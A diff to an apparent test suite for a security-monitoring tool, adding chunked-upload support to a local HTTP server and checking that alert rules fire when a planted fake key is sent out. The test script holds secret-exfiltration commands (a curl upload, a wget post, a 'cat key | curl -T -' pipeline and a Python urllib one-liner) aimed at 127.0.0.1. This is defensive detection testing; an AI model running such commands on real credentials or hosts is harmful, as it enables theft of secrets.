@@ -12,6 +12,7 @@ items 3 to 5), each with the ordinary workload that must stay quiet:
     threshold) and a mv of 150 files into a directory -> no alert;
   - a curl upload (and a wget post) of a planted fake key to a local HTTP
     server -> sensitive_file_upload, and the read-then-connect sequence;
+    `cat key | curl -T -` and a python one-liner -> inline_code_sends_secret;
     a download followed by sha256sum, and an upload of an ordinary file ->
     no alert;
   - an apt hook planted by a shell, a dpkg configuration symlinked, a git
@@ -41,9 +42,22 @@ class Uploads(http.server.BaseHTTPRequestHandler):
 
     received = []
 
+    def _chunked(self):
+        data = b''
+        while True:
+            n = int(self.rfile.readline().split(b';')[0].strip() or b'0', 16)
+            if n == 0:
+                self.rfile.readline()
+                return data
+            data += self.rfile.read(n)
+            self.rfile.readline()
+
     def _body(self):
-        n = int(self.headers.get('Content-Length') or 0)
-        data = self.rfile.read(n) if n else b''
+        if 'chunked' in (self.headers.get('Transfer-Encoding') or ''):
+            data = self._chunked()
+        else:
+            n = int(self.headers.get('Content-Length') or 0)
+            data = self.rfile.read(n) if n else b''
         Uploads.received.append((self.command, self.path, data))
         self.send_response(200)
         self.send_header('Content-Length', '2')
@@ -232,17 +246,23 @@ class BehaviourTest(unittest.TestCase):
         run = self.run_script('upload', 'set -e\n'
                               'curl -sS -T "$KEY" "http://127.0.0.1:$PORT/up" >/dev/null\n'
                               'wget -q -O /dev/null --post-file="$KEY" "http://127.0.0.1:$PORT/post"\n'
+                              'sh -c "cat $KEY | curl -sS -T - http://127.0.0.1:$PORT/pipe >/dev/null"\n'
+                              '"$PY" -c "import urllib.request as u; u.urlopen(u.Request('
+                              '\'http://127.0.0.1:$PORT/py\', open(\'$KEY\', \'rb\').read()))'
+                              '.read()"\n'
                               'echo upload-done\n',
                               policies=[scenlib.POLICY, scenlib.OVERRIDES],
                               env={'KEY': key, 'PORT': str(port)})
         self.assertIn('upload-done', run.stdout, run.summary())
         bodies = [b for _, _, b in Uploads.received]
-        self.assertEqual(bodies, [FAKE_KEY.encode()] * 2, 'the server did not get the key')
+        self.assertEqual(bodies, [FAKE_KEY.encode()] * 4, 'the server did not get the key')
         got = run.rule_ids()
         self.assertEqual(count(run, 'sensitive_file_upload'), 2, run.describe() + run.summary())
         for a in run.alerts:
             if a['rule_id'] == 'sensitive_file_upload':
                 self.assertIn(os.path.basename(a['event']['file']), ('curl', 'wget'))
+        # The pipeline and the python one-liner name the key in their code.
+        self.assertEqual(count(run, 'inline_code_sends_secret'), 2, run.describe())
         self.assertIn('ssh_private_key_read', got, run.describe())
         self.assertIn('credential_read_then_connect', got, run.describe())
         self.assertNotIn('credential_read_before_connect', got, 'a rule that only counts alerted')
